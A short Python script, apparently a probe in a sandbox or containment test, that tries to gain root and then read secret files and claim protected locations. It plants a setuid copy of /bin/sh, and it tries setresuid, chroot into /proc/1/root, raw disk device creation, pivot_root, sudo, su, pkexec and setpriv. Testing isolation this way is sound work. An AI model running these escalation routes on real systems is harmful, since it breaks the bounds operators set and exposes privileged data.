"""Tries the ways in which one becomes root, and then reads and writes what only root may."""

import os
import subprocess
import sys

from lobby import AIM, FOLDER, LIBC, MIB, own, peek, serve, take

SHELL = os.path.join(FOLDER, "shell")
if sys.argv[1] == "build":
    try:
        with open("/bin/sh", "rb") as source, open(SHELL, "wb") as target:
            target.write(source.read(8 * MIB))
        os.chmod(SHELL, 0o6755)  # whose it is at the end is not for us to say; perhaps it is root's
    except OSError:
        pass
    sys.exit()


def try_out():
    for path in [*AIM["assignment"], *AIM["secrets"]]:
        take(peek(path))
    for place in AIM["places"]:
        own(place)


WAYS = [
    lambda: os.setresuid(0, 0, 0),
    lambda: os.setresgid(0, 0, 0),
    lambda: os.setgroups([0]),
    lambda: os.chroot("/proc/1/root"),
    lambda: os.mknod(os.path.join(FOLDER, "disk"), 0o60666, os.makedev(8, 0)),
    lambda: LIBC.mount(b"proc", b"/proc", b"proc", 0, None),
    lambda: LIBC.prctl(23, 21, 0, 0, 0),
    lambda: LIBC.syscall(155, b"/", b"/tmp"),
]
if AIM["bounded"]:
    for way in WAYS:
        try:
            way()
        except OSError:
            pass
    for words in (["sudo", "-n"], ["su", "-c"], [SHELL, "-p", "-c"], ["pkexec"], ["setpriv", "--reuid=0"]):
        path = AIM["assignment"][0]
        told = [f"cat '{path}'"] if words[-1] == "-c" else ["cat", path]
        try:
            done = subprocess.run([*words, *told], stdin=subprocess.DEVNULL, capture_output=True, timeout=0.5)
            take(done.stdout)
        except (OSError, subprocess.SubprocessError):
            pass
    if os.geteuid() == 0 or os.getegid() == 0:
        print("I am root", flush=True)
try_out()
serve()
